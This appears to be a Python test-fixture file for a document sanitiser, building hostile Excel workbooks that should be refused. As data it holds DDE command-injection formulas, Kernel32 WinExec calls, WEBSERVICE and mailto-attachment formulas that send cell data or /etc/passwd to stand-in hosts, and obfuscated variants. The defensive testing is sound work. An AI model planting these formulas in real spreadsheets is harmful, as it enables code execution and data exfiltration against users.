"""Hostile workbooks of Excel: what each is called, what it is, and why it must be refused."""

from html import escape

from tests.support.files import office, relations
from tests.support.hostile_office import part
from tests.support.hostile_parts import EXTERNAL, FORMULA, LINK, MACROS

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def sheet(*formulas: str, element: str = "f", more: str = "") -> bytes:
    """A workbook with these formulas in cells, or in another `element`."""
    cells = "".join(
        f"<c><{element}>{escape(one, quote=False)}</{element}><v>1</v></c>" for one in formulas
    )
    content = f'<worksheet xmlns="{SHEET}"><row>{cells}</row>{more}</worksheet>'
    return part("xl/worksheets/sheet1.xml", content, "xlsx")


def named(formula: str, said: str = "") -> bytes:
    """A workbook with a name for a formula."""
    name = f'<definedName name="a" {said}>{formula}</definedName>'
    return part("xl/workbook.xml", f'<workbook xmlns="{SHEET}">{name}</workbook>', "xlsx")


def told(*texts: str, formula: str = 'INDIRECT("\'"&A1&"\'!B2")', more: str = "") -> bytes:
    """A workbook with a formula that makes a place of texts, with these texts and `more` cells."""
    strings = "".join(f"<si><t>{escape(one)}</t></si>" for one in texts)
    return office(
        "xlsx",
        **{
            "xl__worksheets__sheet1.xml": f'<worksheet xmlns="{SHEET}"><c><f>'
            f"{escape(formula)}</f></c>{more}</worksheet>".encode(),
            "xl__sharedStrings.xml": f'<sst xmlns="{SHEET}">{strings}</sst>'.encode(),
        },
    )


def bound(tie: str, at: str = "_rels/workbook") -> bytes:
    """A workbook with a part that is tied to it so."""
    return part(f"xl/{at}.xml.rels", relations((tie, "a.xml", "")), "xlsx")


HOSTILE_WORKBOOKS = {
    **{
        f"formula: {name}": ("a.xlsx", sheet(said), FORMULA)
        for name, said in {
            "DDE": "cmd|'/c calc'!A1",
            "DDE between apostrophes": "'cmd'|'/c calc'!'A1'",
            "DDE in a sum": "SUM(1,MSEXCEL|'..\\..\\cmd.exe /c calc'!'')",
            "web service": 'WEBSERVICE("http://x.example/"&A1)',
            "web service under its prefix": '_xlfn.WEBSERVICE("http://x.example")',
            "web service in small letters": 'if(1,webservice ("http://x.example"))',
            "another workbook": "[1]Sheet!A1",
            "another workbook between apostrophes": "'[1]Ma feuille'!A1",
            "another workbook by its path": "'c:\\[a.xlsx]Feuil1'!A1",
            "name of another workbook": "[1]!Total",
            "file": "'file:///c:/a.ods'#$Feuille1.A1",
            "live data": 'RTD("a.b",,"c")',
            "library": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
            "library by its number": 'REGISTER.ID("Kernel32","WinExec")',
            "link to a share": 'HYPERLINK("\\\\serveur\\a","ici")',
            "link to a file": 'HYPERLINK("file:///c:/a.exe")',
            "link from a cell": "HYPERLINK(A1)",
            "link put together": 'HYPERLINK("fi"&"le:///c:/a.exe")',
            "link of a condition": 'HYPERLINK(IF(1,"\\\\a\\b"))',
            "picture": '_xlfn.IMAGE("http://x.example/a.png")',
            "cube": 'CUBEVALUE("a","b")',
            "path put together": 'INDIRECT("\'\\\\serveur\\["&A1&"]F\'!A1")',
            "path whose signs are cut": 'INDIRECT("/"&"/serveur/["&A1&"]F!A1")',
            "path cut before its sheet": 'INDIRECT("a[b.xlsx]"&"F!A1")',
            "path of signs made of numbers": "INDIRECT(A1&CHAR(91)&A2&CHAR(93)&A3)",
            "path of a sign made of a wide one": "INDIRECT(A1&ASC(A2)&A3)",
            "path of a sign of an address": "INDIRECT(A1&MID(ADDRESS(1,1,4,FALSE),2,1)&A2)",
            "place of a document beside": "INDIRECT(\"'a.ods'#$F.A1\")",
            "place handed over": 'MAP(A1:A2,_xleta.INDIRECT)&"["',
            "web service handed over": "MAP(A1:A2,_xleta.WEBSERVICE)",
            "web service handed over, prefixed": "MAP(A1:A2,_xlfn._xleta._xlfn.WEBSERVICE)",
            "link handed over": "MAP(A1:A2,_xleta.HYPERLINK)",
            "mail that takes a file along": 'HYPERLINK("mailto:a@b.example?attach=/etc/passwd")',
            "mail put together": 'HYPERLINK("mailto:"&A1)',
            "mail whose parameter is cut": 'HYPERLINK("mailto:a@b.example?att"&"ach=/a")',
            "function of an add-in": "_xll.ouvrir(1)",
            "function of a file": "'c:\\a.xlam'!ouvrir(1)",
            "text without end": 'SUM("',
        }.items()
    },
    "place of another workbook told by a cell": ("a.xlsx", told("Ana", "[a.xlsx]F"), FORMULA),
    "place of another document told by a cell": ("a.xlsx", told("file:///a.ods'#$F"), FORMULA),
    "place told by another formula": (
        "a.xlsx",
        sheet('INDIRECT(A1&"!A1")', '"["&A2'),
        FORMULA,
    ),
    "place told by a cell, in a defined name": (
        "a.xlsx",
        office(
            "xlsx",
            **{
                "xl__workbook.xml": f'<workbook xmlns="{SHEET}"><definedName name="a">INDIRECT(b)'
                "</definedName></workbook>".encode(),
                "xl__worksheets__sheet1.xml": f'<worksheet xmlns="{SHEET}"><c t="inlineStr"><is>'
                "<t>[a.xlsx]F!A1</t></is></c></worksheet>".encode(),
            },
        ),
        FORMULA,
    ),
    "formula in a defined name": (
        "a.xlsx",
        named("cmd|'/c calc'!A1"),
        FORMULA,
    ),
    "name that runs": (
        "a.xlsx",
        named("1", 'xlm="1"'),
        MACROS,
    ),
    "formula of a condition": ("a.xlsx", sheet("cmd|'/c calc'!A1", element="formula"), FORMULA),
    "formula of a validation": ("a.xlsx", sheet("WEBSERVICE(A1)", element="formula1"), FORMULA),
    "formula of an extension": (
        "a.xlsx",
        sheet(more='<x:ext xmlns:x="m"><x:f>WEBSERVICE(A1)</x:f></x:ext>'),
        FORMULA,
    ),
    "formula of a limit": (
        "a.xlsx",
        sheet(more='<cfvo val="WEBSERVICE(A1)"/>'),
        FORMULA,
    ),
    "formula of a shape": ("a.xlsx", sheet(more="<sp textlink=\"cmd|'/c calc'!A1\"/>"), FORMULA),
    "formula in pieces": (
        "a.xlsx",
        sheet(more="<f><![CDATA[cmd|'/c]]> calc'!A1</f>"),
        FORMULA,
    ),
    "formula after what is ignored": (
        "a.xlsx",
        sheet(more="<f><x/>cmd|'/c calc'!A1</f>"),
        FORMULA,
    ),
    "formula in a text that is ignored": (
        "a.xlsx",
        sheet(more="<f><x>&quot;</x>cmd|'/c calc'!A1<x>&quot;</x></f>"),
        FORMULA,
    ),
    "place of a share": (
        "a.xlsx",
        sheet(more=r'<hyperlink ref="A1" location="\\serveur\a"/>'),
        LINK,
    ),
    "connections": (
        "a.xlsx",
        part("xl/connections.xml", "<a/>", "xlsx"),
        EXTERNAL,
    ),
    "connections under another name": (
        "a.xlsx",
        bound("connections"),
        EXTERNAL,
    ),
    "query": ("a.xlsx", part("xl/queryTables/queryTable1.xml", "<a/>", "xlsx"), EXTERNAL),
    "query under another name": (
        "a.xlsx",
        bound("queryTable", "worksheets/_rels/sheet1"),
        EXTERNAL,
    ),
    "linked workbook under another name": (
        "a.xlsx",
        bound("externalLink"),
        EXTERNAL,
    ),
    "live data kept": (
        "a.xlsx",
        bound("volatileDependencies"),
        EXTERNAL,
    ),
    "published on saving": (
        "a.xlsx",
        sheet(more=r'<webPublishItem destinationFile="\\serveur\a.htm"/>'),
        EXTERNAL,
    ),
    "formula in the workbook of a chart": (
        "a.docx",
        part("word/embeddings/Classeur1.xlsx", sheet("WEBSERVICE(A1)")),
        FORMULA,
    ),
}
